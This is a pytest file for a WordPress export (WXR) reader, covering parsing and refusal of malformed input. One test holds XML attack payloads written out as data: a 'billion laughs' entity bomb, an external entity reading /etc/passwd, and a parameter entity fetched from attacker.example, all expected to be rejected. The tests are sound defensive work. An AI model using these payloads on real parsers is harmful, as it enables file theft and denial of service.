"""Reading a WordPress export: as a stream, and refusing what WordPress never writes."""

import pytest

from articles.wordpress import wxr
from tests.articles.wordpress.old_site import EXPORT

HEAD = (
    '<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.1/" '
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:excerpt="http://wordpress.org/export/1.1/excerpt/">'
    "<channel><wp:wxr_version>1.1</wp:wxr_version><wp:base_site_url>https://old.example</wp:base_site_url>"
)


def read(tmp_path, text):
    path = tmp_path / "export.xml"
    path.write_text(text, encoding="utf-8")
    return list(wxr.stream(path))


def test_reads_every_item_author_and_term_then_the_channel():
    entries = list(wxr.stream(EXPORT))

    channel = entries[-1]
    assert isinstance(channel, wxr.Channel)
    assert (channel.title, channel.language, channel.wxr_version) == ("Crime Watch Americas", "en-US", "1.2")
    assert channel.base_site_url == "https://old.newsroom.example"
    items = {entry.post_id: entry for entry in entries if isinstance(entry, wxr.Item)}
    assert len(items) == 17
    post = items["101"]
    assert post.post_type == "post"
    assert post.status == "publish"
    assert post.meta["_thumbnail_id"] == "201"
    assert post.comments == 2
    assert [term.slug for term in post.terms_in("post_tag")] == ["extortion", "buses"]
    assert post.content.startswith("Drivers on the 14 routes")
    assert post.excerpt.startswith("Drivers on 14 routes")
    assert [entry.login for entry in entries if isinstance(entry, wxr.Author)] == ["mlopez", "jreyes"]
    groups = [entry for entry in entries if isinstance(entry, wxr.Term) and entry.taxonomy == "post_translations"]
    assert wxr.polylang_group(groups[0].description) == {"en": "101", "es": "102"}


def test_older_versions_of_the_format(tmp_path):
    entries = read(
        tmp_path,
        HEAD + "<item><title>Old</title><wp:post_id>7</wp:post_id><wp:post_type>post</wp:post_type>"
        "<content:encoded>Text</content:encoded><excerpt:encoded>Summary</excerpt:encoded>"
        "<wp:post_date_gmt>2012-05-01 10:00:00</wp:post_date_gmt></item></channel></rss>",
    )

    item = entries[0]
    assert (item.title, item.content, item.excerpt) == ("Old", "Text", "Summary")
    assert item.published_at.isoformat() == "2012-05-01T10:00:00+00:00"


@pytest.mark.parametrize(
    "declaration",
    [
        # The "billion laughs": entities that expand into gigabytes.
        '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        # An external entity: a file of this server read into a post.
        '<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        # A parameter entity fetched from elsewhere.
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
        "<!DOCTYPE rss>",
    ],
)
def test_refuses_document_types_and_entities(tmp_path, declaration):
    with pytest.raises(wxr.WXRError, match="declares a document type or entities"):
        read(tmp_path, '<?xml version="1.0"?>' + declaration + HEAD + "<item><title>&b;</title></item></channel></rss>")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "not well-formed XML"),
        ("<html><body>Not an export</body></html>", "its root element is <html>"),
        (HEAD + "<item><title>Cut short", "not well-formed XML"),
        ('<rss version="2.0"><channel><title>A feed</title></channel></rss>', "an RSS feed, not a WordPress export"),
    ],
)
def test_refuses_what_is_not_an_export(tmp_path, text, message):
    with pytest.raises(wxr.WXRError, match=message):
        read(tmp_path, text)


def test_dates_wordpress_leaves_empty():
    draft = wxr.Item(post_id="1", post_type="post", post_date_gmt="0000-00-00 00:00:00")
    assert draft.published_at is None
    dated = wxr.Item(post_id="2", post_type="post", pub_date="Tue, 12 Mar 2024 14:30:00 +0000")
    assert dated.published_at.isoformat() == "2024-03-12T14:30:00+00:00"
